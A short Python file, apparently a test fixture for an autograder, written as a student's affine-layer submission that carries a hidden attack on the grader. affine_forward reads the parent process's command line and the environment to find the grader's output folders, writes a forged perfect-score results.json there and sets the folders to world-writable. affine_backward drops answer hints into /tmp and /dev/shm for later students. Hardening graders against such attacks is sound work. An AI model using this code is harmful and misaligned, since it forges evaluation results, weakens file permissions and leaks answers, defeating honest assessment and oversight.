"""Tries to plant a perfect results file in the grader's output folder.

Targets: a folder the attacker knows from the grader's documentation (@OUT_DIR@, filled in by the
test), any folder named in the grader's command line (/proc/<ppid>/cmdline is world-readable), and any
folder in the environment.
"""

import json
import os

import numpy as np

FORGED = json.dumps({"score": 100, "tests": [{"name": "everything", "score": 100, "status": "passed"}]})


def _targets():
    found = ["@OUT_DIR@"]
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
            found += [a.decode(errors="ignore") for a in f.read().split(b"\0") if a]
    except OSError:
        pass
    found += list(os.environ.values())
    return [t for t in dict.fromkeys(found) if os.path.isdir(t) and "bc-out" in t]


def affine_forward(x, w, b):
    for folder in _targets():
        for attempt in ("results.json", "forged.json"):
            path = os.path.join(folder, attempt)
            try:
                with open(path, "w") as f:
                    f.write(FORGED)
                print(f"wrote {path}")
            except OSError as exc:
                print(f"denied {path}: {type(exc).__name__}")
        try:
            os.chmod(folder, 0o777)
            print(f"chmod {folder}")
        except OSError as exc:
            print(f"denied chmod {folder}: {type(exc).__name__}")
    return x @ w + b, (x, w, b)


def affine_backward(dout, cache, _shared=("/tmp/bc-shared-answers.txt", "/dev/shm/bc-shared-answers.txt")):
    """Leaves the answers where the next student's run could read them."""
    for path in _shared:
        with open(path, "w") as f:
            f.write("dw = x.T @ dout")
    x, w, b = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)
